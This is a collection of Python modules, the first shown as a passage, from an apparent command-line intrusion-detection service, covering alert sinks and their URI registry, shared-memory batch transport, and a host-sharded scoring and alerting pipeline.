            json.dumps(alert.to_json()) + "\n" for alert in alerts
        ).encode("utf-8")
        for attempt in range(self.max_attempts):
            reconnected = self._sock is None and attempt > 0
            try:
                sock = self._connect()
                sock.sendall(payload)
            except OSError:
                self.close()  # drop the broken connection before retrying
                if attempt + 1 >= self.max_attempts:
                    raise
                delay_ms = min(
                    self.backoff_ms * (self.backoff_multiplier**attempt),
                    self.max_backoff_ms,
                )
                time.sleep(delay_ms / 1000.0)
                continue
            if reconnected:
                self.reconnects += 1
            self.emitted += len(alerts)
            return

    def close(self) -> None:
        if self._sock is not None:
            try:
                self._sock.close()
            finally:
                self._sock = None


class _DuckTypedSinkAdapter(AlertSink):
    """Wrap an ``emit()``-only object (not an :class:`AlertSink`) in the
    v2 protocol, forwarding whatever lifecycle methods it does have."""

    def __init__(self, sink):
        self.wrapped = sink

    def open(self) -> None:
        hook = getattr(self.wrapped, "open", None)
        if callable(hook):
            hook()

    def emit(self, alert: DetectionAlert) -> None:
        self.wrapped.emit(alert)

    def flush(self) -> None:
        hook = getattr(self.wrapped, "flush", None)
        if callable(hook):
            hook()

    def close(self) -> None:
        hook = getattr(self.wrapped, "close", None)
        if callable(hook):
            hook()


def ensure_sink(sink) -> AlertSink:
    """*sink* as a v2 :class:`AlertSink` (auto-adapting legacy objects).

    :class:`AlertSink` subclasses pass through unchanged (the base class
    already maps ``emit_many`` onto a subclass's ``emit``); any other
    object exposing ``emit(alert)`` is wrapped so it gains the batch
    and lifecycle surface.
    """
    if isinstance(sink, AlertSink):
        return sink
    if callable(getattr(sink, "emit", None)):
        return _DuckTypedSinkAdapter(sink)
    raise TypeError(
        f"not an alert sink: {sink!r} (need an AlertSink or an object with .emit)"
    )


# -- URI-addressed construction ----------------------------------------------


class SinkRegistry:
    """Map URI schemes to sink factories so sinks are constructible from
    config/CLI strings.

    A factory receives ``(parts, uri)`` — the
    :func:`urllib.parse.urlsplit` of the URI plus the original string —
    and returns an :class:`AlertSink`.  Factories raise
    :class:`~repro.errors.ConfigError` for malformed URIs.
    """

    def __init__(self):
        self._factories: dict[str, Callable[[urllib.parse.SplitResult, str], AlertSink]] = {}

    def register(
        self, scheme: str, factory: Callable[[urllib.parse.SplitResult, str], AlertSink]
    ) -> None:
        """Register *factory* for ``scheme://...`` URIs (replaces any
        previous registration of the scheme)."""
        if not scheme or not scheme.replace("+", "").replace("-", "").isalnum():
            raise ValueError(f"invalid sink scheme: {scheme!r}")
        self._factories[scheme.lower()] = factory

    def schemes(self) -> list[str]:
        """Registered schemes, sorted."""
        return sorted(self._factories)

    def build(self, uri: str) -> AlertSink:
        """Construct the sink a URI names."""
        parts = urllib.parse.urlsplit(uri)
        if not parts.scheme:
            raise ConfigError(
                f"sink URI {uri!r} has no scheme "
                f"(expected e.g. {', '.join(self.schemes()) or 'ring'}://...)"
            )
        factory = self._factories.get(parts.scheme.lower())
        if factory is None:
            raise ConfigError(
                f"unknown sink scheme '{parts.scheme}' in {uri!r} "
                f"(known schemes: {', '.join(self.schemes())})"
            )
        return factory(parts, uri)


def _uri_path(parts: urllib.parse.SplitResult) -> str:
    """File path from a URI: ``jsonl://rel.jsonl`` and
    ``jsonl:///abs/path.jsonl`` both work."""
    return urllib.parse.unquote(parts.netloc + parts.path)


def _build_ring(parts: urllib.parse.SplitResult, uri: str) -> RingBufferSink:
    text = parts.netloc or parts.path.strip("/")
    if not text:
        return RingBufferSink()
    try:
        capacity = int(text)
        if capacity < 1:
            raise ValueError
    except ValueError:
        raise ConfigError(
            f"ring:// capacity must be a positive integer (got {uri!r})"
        ) from None
    return RingBufferSink(capacity)


def _build_jsonl(parts: urllib.parse.SplitResult, uri: str) -> JsonlSink:
    path = _uri_path(parts)
    if not path:
        raise ConfigError(
            f"jsonl:// needs a file path, e.g. jsonl:///var/alerts.jsonl (got {uri!r})"
        )
    return JsonlSink(path)


def _build_webhook(parts: urllib.parse.SplitResult, uri: str) -> WebhookSink:
    if not parts.netloc:
        raise ConfigError(
            f"webhook:// needs host[:port][/path], e.g. webhook://siem:8080/alerts "
            f"(got {uri!r})"
        )
    protocol = "https" if parts.scheme.lower() == "webhook+https" else "http"
    url = f"{protocol}://{parts.netloc}{parts.path or '/'}"
    if parts.query:
        url += f"?{parts.query}"
    return WebhookSink(url)


def _build_tcp(parts: urllib.parse.SplitResult, uri: str) -> TcpSocketSink:
    try:
        host, port = parts.hostname, parts.port
    except ValueError as exc:  # non-numeric port
        raise ConfigError(f"tcp:// port must be an integer (got {uri!r})") from exc
    if not host or port is None:
        raise ConfigError(
            f"tcp:// needs host:port, e.g. tcp://collector:9000 (got {uri!r})"
        )
    return TcpSocketSink(host, port)


#: Process-wide default registry — what :class:`~repro.serving.config.SinkSpec`
#: validates against and :meth:`DetectionServer.from_config` builds from.
DEFAULT_SINK_REGISTRY = SinkRegistry()
DEFAULT_SINK_REGISTRY.register("ring", _build_ring)
DEFAULT_SINK_REGISTRY.register("jsonl", _build_jsonl)
DEFAULT_SINK_REGISTRY.register("webhook", _build_webhook)
DEFAULT_SINK_REGISTRY.register("webhook+https", _build_webhook)
DEFAULT_SINK_REGISTRY.register("tcp", _build_tcp)


def build_sink(uri: str, registry: SinkRegistry | None = None) -> AlertSink:
    """Construct a sink from its URI (default registry unless given)."""
    return (registry or DEFAULT_SINK_REGISTRY).build(uri)


def register_sink_scheme(
    scheme: str, factory: Callable[[urllib.parse.SplitResult, str], AlertSink]
) -> None:
    """Register a custom ``scheme://`` factory in the default registry."""
    DEFAULT_SINK_REGISTRY.register(scheme, factory)


class SinkFanout:
    """Deliver each alert synchronously to every registered sink.

    Legacy fan-out (the served path now runs the durable
    :class:`~repro.serving.delivery.DeliveryPipeline` instead): a broken
    sink must not take down the detection path, so exceptions are
    counted and swallowed.  Failures are keyed per sink *instance*
    (``ClassName[index]``), so two sinks of the same class keep separate
    counters.
    """

    def __init__(self, sinks: list[AlertSink] | tuple[AlertSink, ...] = ()):
        self.sinks: list[AlertSink] = []
        self._labels: list[str] = []
        self.delivered = 0
        self.failures: dict[str, int] = {}
        for sink in sinks:
            self.add(sink)

    def add(self, sink: AlertSink) -> None:
        """Register another sink."""
        self._labels.append(f"{type(sink).__name__}[{len(self.sinks)}]")
        self.sinks.append(sink)

    def emit(self, alert: DetectionAlert) -> None:
        """Fan *alert* out to all sinks."""
        for sink, label in zip(self.sinks, self._labels):
            try:
                sink.emit(alert)
                self.delivered += 1
            except Exception:
                self.failures[label] = self.failures.get(label, 0) + 1

    def close(self) -> None:
        """Close all sinks (failures swallowed here too)."""
        for sink, label in zip(self.sinks, self._labels):
            try:
                sink.close()
            except Exception:
                self.failures[label] = self.failures.get(label, 0) + 1
