"""Pluggable alert sinks: where confirmed detections go.

The server fans every :class:`~repro.serving.events.DetectionAlert` out
to all configured sinks.  Three implementations cover the common
shapes: an in-memory ring buffer (dashboards, tests), a JSONL file
(durable hand-off to a SIEM), and an arbitrary callback (custom
integrations).  A sink must never raise back into the serving path —
failures are counted and swallowed.
"""

from __future__ import annotations

import json
from collections import deque
from collections.abc import Callable
from pathlib import Path

from repro.serving.events import DetectionAlert


class AlertSink:
    """Base class: receive alerts, optionally flush/close resources."""

    def emit(self, alert: DetectionAlert) -> None:
        """Deliver one alert (must not raise)."""
        raise NotImplementedError

    def close(self) -> None:
        """Release any resources (default: nothing to do)."""


class RingBufferSink(AlertSink):
    """Keep the most recent *capacity* alerts in memory."""

    def __init__(self, capacity: int = 1024):
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self._ring: deque[DetectionAlert] = deque(maxlen=capacity)
        self.emitted = 0

    def emit(self, alert: DetectionAlert) -> None:
        self._ring.append(alert)
        self.emitted += 1

    @property
    def alerts(self) -> list[DetectionAlert]:
        """Buffered alerts, oldest first."""
        return list(self._ring)


class JsonlSink(AlertSink):
    """Append alerts to a JSON-lines file (one object per alert)."""

    def __init__(self, path: str | Path):
        self.path = Path(path)
        self._handle = None
        self.emitted = 0

    def emit(self, alert: DetectionAlert) -> None:
        if self._handle is None:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self._handle = self.path.open("a", encoding="utf-8")
        self._handle.write(json.dumps(alert.to_json()) + "\n")
        self.emitted += 1

    def close(self) -> None:
        if self._handle is not None:
            self._handle.close()
            self._handle = None


class CallbackSink(AlertSink):
    """Invoke ``callback(alert)`` for every alert."""

    def __init__(self, callback: Callable[[DetectionAlert], None]):
        self._callback = callback
        self.emitted = 0

    def emit(self, alert: DetectionAlert) -> None:
        self._callback(alert)
        self.emitted += 1


class SinkFanout:
    """Deliver each alert to every registered sink, isolating failures.

    A broken sink (full disk, raising callback) must not take down the
    detection path, so exceptions are counted per sink type and
    swallowed.
    """

    def __init__(self, sinks: list[AlertSink] | tuple[AlertSink, ...] = ()):
        self.sinks: list[AlertSink] = list(sinks)
        self.delivered = 0
        self.failures: dict[str, int] = {}

    def add(self, sink: AlertSink) -> None:
        """Register another sink."""
        self.sinks.append(sink)

    def emit(self, alert: DetectionAlert) -> None:
        """Fan *alert* out to all sinks."""
        for sink in self.sinks:
            try:
                sink.emit(alert)
                self.delivered += 1
            except Exception:
                name = type(sink).__name__
                self.failures[name] = self.failures.get(name, 0) + 1

    def close(self) -> None:
        """Close all sinks (failures swallowed here too)."""
        for sink in self.sinks:
            try:
                sink.close()
            except Exception:
                name = type(sink).__name__
                self.failures[name] = self.failures.get(name, 0) + 1
