"""Generation-stamped shared-memory frames for columnar score batches.

``ProcessPoolBackend`` used to pickle a list of strings per shard per
batch — every worker dispatch re-serialized the batch's text and every
worker re-tokenized it.  With the columnar hot path the batch is already
three contiguous int64 arrays (ids, lengths, char lengths), so the
cheapest transport is to publish them **once** into a
:class:`multiprocessing.shared_memory.SharedMemory` segment and send
workers only a tiny picklable :class:`BatchFrame` descriptor (segment
name, shapes, row range).  Workers attach, score their row slice through
zero-copy views, and detach; the publishing side unlinks the segment
when every shard's scores are back.

The frame carries the backend **generation** that published it — the
same stamp process workers key their model-cache rehydration on — so
the hot-swap contract survives the new transport: a worker that missed
a rotation sees a frame stamped with the new generation and reloads
before scoring, and a frame can never be scored by a model other than
the one it was published under.

``transport="pickle"`` (or platforms without POSIX shared memory) falls
back to shipping the same arrays inside the frame itself — still one
buffer-level pickle of numpy arrays per batch, never a per-line list of
strings.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.tokenizer.columnar import TokenBatch

try:  # pragma: no cover - import guard for exotic platforms
    from multiprocessing import shared_memory as _shm
except ImportError:  # pragma: no cover
    _shm = None

#: Valid frame transports: ``auto`` picks shared memory when available.
FRAME_TRANSPORTS = ("auto", "pickle", "shm")


def shm_available() -> bool:
    """Whether POSIX shared memory can back frames on this platform."""
    return _shm is not None


@dataclass(frozen=True)
class BatchFrame:
    """Picklable descriptor of one published columnar batch.

    ``shm_name`` names the shared-memory segment holding the arrays
    (``None`` for the pickle transport, where ``payload`` carries the
    raw bytes instead).  The segment layout is three back-to-back int64
    regions: ``ids`` (``rows * width``), ``lengths`` (``rows``), and
    ``char_lengths`` (``rows``).
    """

    rows: int
    width: int
    pad_id: int
    generation: int
    shm_name: str | None = None
    payload: bytes | None = None

    @property
    def items(self) -> int:
        """Total int64 slots the frame's buffer holds."""
        return self.rows * self.width + 2 * self.rows


def publish_frame(batch: TokenBatch, generation: int, transport: str = "auto"):
    """Publish *batch* for worker processes; returns ``(frame, segment)``.

    *segment* is the owned :class:`SharedMemory` handle the caller must
    :func:`retire_frame` after all workers finished (``None`` for the
    pickle transport).  The arrays are copied into the segment here —
    the only copy the batch makes on its way to N workers.
    """
    if transport not in FRAME_TRANSPORTS:
        raise ValueError(f"unknown frame transport {transport!r}; choose from {FRAME_TRANSPORTS}")
    rows, width = batch.ids.shape
    use_shm = transport == "shm" or (transport == "auto" and shm_available())
    if transport == "shm" and not shm_available():
        raise RuntimeError("shared-memory frames are unavailable on this platform")
    if not use_shm or rows == 0:
        payload = b"".join(
            (
                np.ascontiguousarray(batch.ids, dtype=np.int64).tobytes(),
                np.ascontiguousarray(batch.lengths, dtype=np.int64).tobytes(),
                np.ascontiguousarray(batch.char_lengths, dtype=np.int64).tobytes(),
            )
        )
        frame = BatchFrame(
            rows=rows, width=width, pad_id=batch.pad_id,
            generation=generation, payload=payload,
        )
        return frame, None
    items = rows * width + 2 * rows
    segment = _shm.SharedMemory(create=True, size=items * 8)
    buffer = np.frombuffer(segment.buf, dtype=np.int64, count=items)
    buffer[: rows * width] = batch.ids.reshape(-1)
    buffer[rows * width : rows * width + rows] = batch.lengths
    buffer[rows * width + rows :] = batch.char_lengths
    del buffer  # drop the exported-buffer reference before handing off
    frame = BatchFrame(
        rows=rows, width=width, pad_id=batch.pad_id,
        generation=generation, shm_name=segment.name,
    )
    return frame, segment


def open_frame(frame: BatchFrame):
    """Materialize a :class:`TokenBatch` from *frame*; returns ``(batch, release)``.

    Worker side of the transport.  For shared-memory frames the batch's
    arrays are zero-copy views into the attached segment; *release*
    **must** be called after scoring (and after dropping every array
    referencing the batch) to detach the segment.  For pickle frames
    *release* is a no-op.
    """
    if frame.shm_name is None:
        if frame.payload is None:
            raise ValueError("frame carries neither a shm segment nor a payload")
        buffer = np.frombuffer(frame.payload, dtype=np.int64, count=frame.items)
        segment = None
    else:
        if _shm is None:
            raise RuntimeError("shared-memory frames are unavailable on this platform")
        # attaching registers with the resource tracker on Python < 3.13
        # (bpo-39959); under fork-based pools the workers share the
        # publisher's tracker, so a later attach-side unregister would
        # also erase the publisher's registration and make the unlink
        # complain.  Suppress the attach-side registration instead —
        # only the publisher owns the segment's lifetime.
        from multiprocessing import resource_tracker

        original_register = resource_tracker.register

        def _skip_shm(name, rtype):  # pragma: no cover - trivial shim
            if rtype != "shared_memory":
                original_register(name, rtype)

        resource_tracker.register = _skip_shm
        try:
            segment = _shm.SharedMemory(name=frame.shm_name)
        finally:
            resource_tracker.register = original_register
        buffer = np.frombuffer(segment.buf, dtype=np.int64, count=frame.items)
    split = frame.rows * frame.width
    batch = TokenBatch(
        ids=buffer[:split].reshape(frame.rows, frame.width),
        lengths=buffer[split : split + frame.rows],
        char_lengths=buffer[split + frame.rows :],
        pad_id=frame.pad_id,
    )

    def release() -> None:
        if segment is not None:
            try:
                segment.close()
            except BufferError:  # pragma: no cover - a view is still alive
                pass  # process exit unmaps it; never crash the worker

    return batch, release


def retire_frame(segment) -> None:
    """Tear down a published segment after every consumer detached."""
    if segment is None:
        return
    segment.close()
    try:
        segment.unlink()
    except FileNotFoundError:  # pragma: no cover - already unlinked
        pass
