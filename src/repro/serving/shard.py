"""The per-shard serving pipeline and the host-hash router over it.

The paper's deployment scores command lines from millions of hosts; a
single event loop with one batcher, one cache, and one session table
makes session bookkeeping and batching contend on one hot path.  This
module partitions the serving plane the way SCADE partitions host
anomaly detection — by host locality:

- :class:`ShardRouter` consistent-hashes ``event.host`` onto one of N
  shards (a hash ring with virtual nodes, so shard counts can change
  without reshuffling every host).
- :class:`ShardRuntime` is the whole per-event flow that used to be
  inlined in ``DetectionServer`` — normalize → cache lookup →
  micro-batch → score → session/sequence escalation → alert emit —
  owning its own :class:`~repro.serving.microbatch.MicroBatcher`,
  :class:`~repro.serving.cache.ScoreCache`,
  :class:`~repro.serving.sessions.SessionAggregator` and
  :class:`~repro.serving.metrics.ServingMetrics`.  Everything a host's
  events touch is shard-local and lock-free (shards are asyncio
  partitions of one loop, not threads).
- :class:`ShardContext` is the small mutable bundle all shards share:
  the model service, the scoring backend, the delivery pipeline, the
  model generation, and the global event/alert id sequences.

Two properties fall out of the partitioning.  First, batches from
different shards score **concurrently** — each shard serializes its own
batches under its own score lock, so a multi-worker backend overlaps
whole batches instead of only slicing within one (the single global
score lock was the old throughput ceiling).  Second, a hot model swap
stays atomic fleet-wide: ``DetectionServer.swap_model`` acquires every
shard's score lock before rotating, so no batch anywhere is in flight
during the rotation and no batch ever mixes generations.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Sequence

import numpy as np

from repro.preprocess.canonicalize import Canonicalizer
from repro.serving.cache import ScoreCache
from repro.serving.config import CanonicalizeConfig, SessionConfig
from repro.serving.events import (
    AlertStatus,
    DetectionAlert,
    DetectionResult,
    Severity,
)
from repro.serving.metrics import ServingMetrics
from repro.serving.microbatch import MicroBatcher
from repro.serving.ring import HashRing
from repro.serving.sessions import SessionAggregator


class ShardRouter:
    """Consistent-hash ring mapping a host to its owning shard.

    A thin integer-index facade over the shared
    :class:`~repro.serving.ring.HashRing` (the same implementation the
    fleet layer routes *nodes* with): shard *i* is the ring member
    ``"shard-i"``, so the ring points are byte-identical to the
    original inlined construction — no host changes shards across the
    refactor, which matters because a host's session state lives on
    its shard.  Changing the shard count moves only ~1/N of hosts.

    Routing is pure and deterministic: the same host always lands on
    the same shard for a given ``(shard_count, virtual_nodes)``.
    """

    def __init__(self, shard_count: int, virtual_nodes: int = 64):
        if shard_count < 1:
            raise ValueError("shard_count must be >= 1")
        self.shard_count = shard_count
        self.virtual_nodes = virtual_nodes
        self._ring = HashRing(
            (f"shard-{shard}" for shard in range(shard_count)),
            virtual_nodes=virtual_nodes,
        )

    def route(self, host: str) -> int:
        """The shard index owning *host*."""
        if self.shard_count == 1:
            return 0
        return int(self._ring.route(host).removeprefix("shard-"))

    def spread(self, hosts) -> dict[int, int]:
        """Hosts per shard for an iterable of host names (diagnostics)."""
        counts: dict[int, int] = {shard: 0 for shard in range(self.shard_count)}
        for host in hosts:
            counts[self.route(host)] += 1
        return counts


class ShardContext:
    """Mutable state shared by every shard of one server.

    The service reference, the scoring backend, the delivery pipeline,
    and the model generation rotate together under
    ``DetectionServer.swap_model`` (which holds every shard's score
    lock while it writes here).  The event/alert id sequences are
    global so ids stay unique and monotone in submission order across
    shards — allocation is synchronous on the event loop, so no lock is
    needed.
    """

    def __init__(self, service, backend, sinks):
        self.service = service
        self.backend = backend
        self.sinks = sinks
        self.generation = 0
        self._event_seq = 0
        self._alert_seq = 0

    def next_event_id(self) -> int:
        self._event_seq += 1
        return self._event_seq

    def next_alert_id(self) -> int:
        self._alert_seq += 1
        return self._alert_seq


class ShardRuntime:
    """One shard's self-contained serving pipeline.

    Owns the per-shard :class:`MicroBatcher`, :class:`ScoreCache`,
    :class:`SessionAggregator`, and :class:`ServingMetrics`; shares the
    model, backend, and delivery pipeline through *context*.  The
    router guarantees every event for a given host reaches the same
    shard, so nothing here is ever touched from two shards.

    With one shard and the same knobs this pipeline is the pre-shard
    ``DetectionServer`` event path, line for line — ``shards = 1``
    must stay bitwise-identical to the single-path server.
    """

    def __init__(
        self,
        shard_id: int,
        *,
        context: ShardContext,
        max_batch: int = 32,
        max_latency_ms: float = 25.0,
        cache_size: int = 4096,
        cache_ttl_seconds: float | None = None,
        cache_admission: str = "lru",
        session: SessionConfig | None = None,
        metrics: ServingMetrics | None = None,
        columnar: bool = True,
        canonicalize: CanonicalizeConfig | None = None,
    ):
        self.shard_id = shard_id
        self._ctx = context
        #: Prefer the columnar (``TokenBatch``) scoring path when the
        #: service and backend both support it; ``False`` forces the
        #: per-line string path (the pre-columnar behaviour).
        self.columnar = columnar
        self.metrics = metrics or ServingMetrics()
        #: AST-backed canonicalization between preprocess and the cache
        #: seam; ``None`` (canonicalize disabled or absent) keeps the
        #: pipeline byte-identical to the pre-canonicalization path.
        self.canonicalizer: Canonicalizer | None = None
        if canonicalize is not None and canonicalize.enabled:
            normalizer = getattr(context.service, "normalizer", None)
            self.canonicalizer = Canonicalizer(
                decode_base64=canonicalize.decode_base64,
                max_passes=canonicalize.max_passes,
                truncation_length=getattr(normalizer, "max_length", None),
            )
        self.cache = ScoreCache(
            cache_size, ttl_seconds=cache_ttl_seconds, admission=cache_admission
        )
        session = session or SessionConfig()
        self.sessions = SessionAggregator(
            window_seconds=session.window_seconds,
            escalation_threshold=session.escalation_threshold,
            mode=session.mode,
            sequence_threshold=session.sequence_threshold,
            context_window=session.context_window,
            context_max_gap_seconds=session.context_max_gap_seconds,
            max_hosts=session.max_hosts,
        )
        self.batcher = MicroBatcher(
            self._score_batch,
            max_batch=max_batch,
            max_latency_ms=max_latency_ms,
            on_flush=self.metrics.record_batch,
        )
        self._score_lock: asyncio.Lock | None = None

    # -- lifecycle ---------------------------------------------------------

    async def start(self) -> None:
        """Bind the score lock to the running loop and start the batcher."""
        self._score_lock = asyncio.Lock()
        self.metrics.mark_start()
        await self.batcher.start()

    async def stop(self) -> None:
        """Drain this shard's batcher and freeze its clock."""
        await self.batcher.stop()
        self.metrics.mark_stop()

    @property
    def score_lock(self) -> asyncio.Lock:
        """The lock every batch of this shard scores under.

        ``swap_model`` (and pool resizes) acquire **all** shards' locks
        to quiesce scoring fleet-wide before touching the shared
        backend.
        """
        if self._score_lock is None:
            raise RuntimeError("shard is not running; call start() first")
        return self._score_lock

    @property
    def pending(self) -> int:
        """Events queued in this shard's batcher (autoscaler signal)."""
        return self.batcher.pending

    # -- event path --------------------------------------------------------

    async def process(self, line: str, host: str, when: float) -> DetectionResult:
        """Run one event through the full shard pipeline."""
        started = time.perf_counter()
        ctx = self._ctx
        event_id = ctx.next_event_id()

        normalized = ctx.service.preprocess(line)
        if normalized is None:
            latency = (time.perf_counter() - started) * 1000.0
            self.metrics.record_event(latency, dropped=True, cache_hit=False)
            return DetectionResult(
                event_id=event_id,
                host=host,
                raw_line=line,
                line="",
                score=0.0,
                is_intrusion=False,
                dropped=True,
                cache_hit=False,
                latency_ms=latency,
                generation=ctx.generation,
            )
        if self.canonicalizer is not None:
            normalized = self._canonical(normalized)

        cached = self.cache.lookup(normalized)
        if cached is not None:
            (score, generation), cache_hit = cached, True
        else:
            score, generation = await self.batcher.submit(normalized)
            cache_hit = False

        is_intrusion = score >= ctx.service.threshold
        session, newly_escalated = self.sessions.observe(
            host, when, is_intrusion, line=normalized
        )
        if newly_escalated:
            self.metrics.escalations += 1
        self.metrics.session_evictions = self.sessions.evictions
        self.metrics.sync_cache(self.cache)
        context = None
        sequence_score = None
        if is_intrusion and self.sessions.mode != "count":
            # second stage, flagged events only: compose the host's
            # recent command window (before awaiting, so the window is
            # this event's) and score it with the multi-line head
            # off-loop — the forward pass must not stall the batcher's
            # deadline timer or concurrent submissions
            context = self.sessions.compose_context(host)
            if context is not None:
                scores = await asyncio.to_thread(ctx.service.score_sequence, [context])
                sequence_score = float(scores[0])
                self.metrics.sequence_scored += 1
                if self.sessions.record_sequence_score(host, sequence_score):
                    self.metrics.escalations += 1
                    self.metrics.sequence_escalations += 1
        alert = None
        if is_intrusion:
            alert = self._emit_alert(
                event_id,
                host,
                normalized,
                score,
                when,
                session.escalated,
                context=context,
                sequence_score=sequence_score,
            )

        latency = (time.perf_counter() - started) * 1000.0
        self.metrics.record_event(latency, dropped=False, cache_hit=cache_hit)
        return DetectionResult(
            event_id=event_id,
            host=host,
            raw_line=line,
            line=normalized,
            score=score,
            is_intrusion=is_intrusion,
            dropped=False,
            cache_hit=cache_hit,
            latency_ms=latency,
            alert=alert,
            generation=generation,
            sequence_score=sequence_score,
        )

    # -- internals ---------------------------------------------------------

    def _canonical(self, normalized: str) -> str:
        """Canonicalize one normalized line, accounting the outcome.

        Never raises: unparseable input falls back to the normalized
        text (counted in ``canonicalize_failures``, with truncation-
        attributable failures split out into ``canonicalize_truncated``).
        """
        result = self.canonicalizer.canonicalize(normalized)
        if result.ok:
            if result.changed:
                self.metrics.canonicalized += 1
            if result.decoded:
                self.metrics.canonicalize_decoded += 1
        else:
            self.metrics.canonicalize_failures += 1
            if result.reason == "truncated":
                self.metrics.canonicalize_truncated += 1
        return result.text

    def _emit_alert(
        self,
        event_id: int,
        host: str,
        line: str,
        score: float,
        when: float,
        escalated: bool,
        *,
        context: str | None = None,
        sequence_score: float | None = None,
    ) -> DetectionAlert:
        ctx = self._ctx
        alert = DetectionAlert(
            alert_id=ctx.next_alert_id(),
            event_id=event_id,
            host=host,
            line=line,
            score=score,
            severity=Severity.from_score(score, ctx.service.threshold),
            status=AlertStatus.ESCALATED if escalated else AlertStatus.OPEN,
            timestamp=when,
            context=context,
            sequence_score=sequence_score,
        )
        ctx.sinks.emit(alert)
        self.metrics.alerts += 1
        return alert

    def _columnar_active(self) -> bool:
        """Whether batches can take the columnar (``TokenBatch``) path."""
        ctx = self._ctx
        return (
            self.columnar
            and ctx.backend.supports_columnar
            and callable(getattr(ctx.service, "encode_batch", None))
        )

    async def _score_unique(self, lines: list[str]) -> tuple[list[float], int]:
        """Score already-deduplicated *lines* under the shard's score lock.

        Returns ``(scores, generation)`` — the generation that actually
        scored the batch.  The lock serializes *this shard's* batches
        against ``swap_model`` (which holds every shard's lock), so a
        batch never mixes model generations — while batches from
        *different* shards overlap freely on a multi-worker backend.
        On the columnar path the batch is tokenized into one
        :class:`~repro.tokenizer.columnar.TokenBatch` **inside** the
        lock (tokenizer and scorer must come from the same generation)
        and handed to ``backend.score_batch`` — no per-line Python loop
        between here and the embedding matmul.
        """
        ctx = self._ctx
        if self._score_lock is None:
            raise RuntimeError("shard is not running; call start() first")
        async with self._score_lock:
            generation = ctx.generation
            score_started = time.perf_counter()
            try:
                if self._columnar_active():
                    batch = ctx.service.encode_batch(lines)
                    model_started = time.perf_counter()
                    scores = await ctx.backend.score_batch(batch)
                    self.metrics.columnar_batches += 1
                else:
                    model_started = time.perf_counter()
                    scores = await ctx.backend.score(lines)
            except Exception:
                self.metrics.scoring_errors += 1
                raise
            finished = time.perf_counter()
            # split the batch wall time into model-forward vs pipeline
            # overhead (tokenization, dedup bookkeeping, event-loop hops)
            self.metrics.record_model_time((finished - model_started) * 1000.0)
            if getattr(ctx.service, "inference_compiled", False):
                self.metrics.compiled_batches += 1
            self.metrics.record_batch_score((finished - score_started) * 1000.0)
        return scores, generation

    async def _score_batch(self, lines: list[str]) -> list[tuple[float, int]]:
        """Micro-batch handler: score distinct lines once, fill the cache.

        Returns ``(score, generation)`` pairs so producers can stamp
        their results with the model that actually scored them.
        """
        unique: dict[str, tuple[float, int]] = dict.fromkeys(lines, (0.0, 0))
        scores, generation = await self._score_unique(list(unique))
        for line, score in zip(unique, scores):
            value = float(score)
            unique[line] = (value, generation)
            self.cache.put(line, value, generation=generation)
        self.metrics.unique_scored += len(unique)
        return [unique[line] for line in lines]

    # -- batch event path --------------------------------------------------

    async def process_batch(
        self, events: Sequence[tuple[str, str, float]]
    ) -> list[DetectionResult]:
        """Run a pre-collected batch of ``(line, host, when)`` events.

        The batch-first twin of :meth:`process`: one preprocess pass,
        one cache sweep, one deduplicated scoring call (columnar when
        available — skipping the micro-batcher entirely, since the
        batch is already composed), one vectorized threshold, and one
        batched second-stage ``score_sequence`` call for every flagged
        event.  Events are observed by the session aggregator strictly
        in input order with contexts composed in-line, so per-host
        escalation counting and context windows match the per-event
        path exactly.

        Scores, verdicts, and escalation bookkeeping are identical to
        submitting the events one at a time.  Three deliberate batch
        semantics differ: every event in the batch reports the batch's
        wall-clock latency; an alert's ``ESCALATED``/``OPEN`` status
        reflects the host's session state at the *end* of the batch
        (alerts are emitted after all events were observed) rather
        than mid-batch; and a line repeated *within* the batch is
        served by the scoring dedup rather than the cache, so it
        counts as a cache miss (the per-event path would count a hit).
        """
        started = time.perf_counter()
        ctx = self._ctx
        n = len(events)
        if n == 0:
            return []
        event_ids = [ctx.next_event_id() for _ in range(n)]
        normalized = [ctx.service.preprocess(line) for line, _, _ in events]
        if self.canonicalizer is not None:
            normalized = [
                line if line is None else self._canonical(line) for line in normalized
            ]

        # one cache sweep; misses collected for a single scoring call
        scores = [0.0] * n
        generations = [ctx.generation] * n
        cache_hits = [False] * n
        miss_indexes: list[int] = []
        for index, line in enumerate(normalized):
            if line is None:
                continue
            cached = self.cache.lookup(line)
            if cached is not None:
                scores[index], generations[index] = cached
                cache_hits[index] = True
            else:
                miss_indexes.append(index)

        if miss_indexes:
            unique = list(dict.fromkeys(normalized[i] for i in miss_indexes))
            unique_scores, generation = await self._score_unique(unique)
            by_line: dict[str, float] = {}
            for line, score in zip(unique, unique_scores):
                value = float(score)
                by_line[line] = value
                self.cache.put(line, value, generation=generation)
            self.metrics.unique_scored += len(unique)
            self.metrics.record_batch(len(miss_indexes), "bulk")
            for index in miss_indexes:
                scores[index] = by_line[normalized[index]]
                generations[index] = generation

        live = np.array([line is not None for line in normalized], dtype=bool)
        flags = live & (np.asarray(scores, dtype=np.float64) >= ctx.service.threshold)

        # observe in strict input order; compose each flagged event's
        # context at its own position so the window is that event's
        sessions: list = [None] * n
        contexts: list[str | None] = [None] * n
        sequence_scores: list[float | None] = [None] * n
        flagged: list[int] = []
        sequence_mode = self.sessions.mode != "count"
        for index, (_, host, when) in enumerate(events):
            if normalized[index] is None:
                continue
            session, newly_escalated = self.sessions.observe(
                host, when, bool(flags[index]), line=normalized[index]
            )
            sessions[index] = session
            if newly_escalated:
                self.metrics.escalations += 1
            if flags[index] and sequence_mode:
                context = self.sessions.compose_context(host)
                if context is not None:
                    contexts[index] = context
                    flagged.append(index)

        if flagged:
            # one second-stage forward pass for the whole batch,
            # off-loop; escalations applied back in event order
            seq_scores = await asyncio.to_thread(
                ctx.service.score_sequence, [contexts[i] for i in flagged]
            )
            for index, value in zip(flagged, seq_scores):
                sequence_scores[index] = float(value)
                self.metrics.sequence_scored += 1
                if self.sessions.record_sequence_score(
                    events[index][1], sequence_scores[index]
                ):
                    self.metrics.escalations += 1
                    self.metrics.sequence_escalations += 1

        alerts: list[DetectionAlert | None] = [None] * n
        for index, (_, host, when) in enumerate(events):
            if flags[index]:
                alerts[index] = self._emit_alert(
                    event_ids[index],
                    host,
                    normalized[index],
                    scores[index],
                    when,
                    sessions[index].escalated,
                    context=contexts[index],
                    sequence_score=sequence_scores[index],
                )

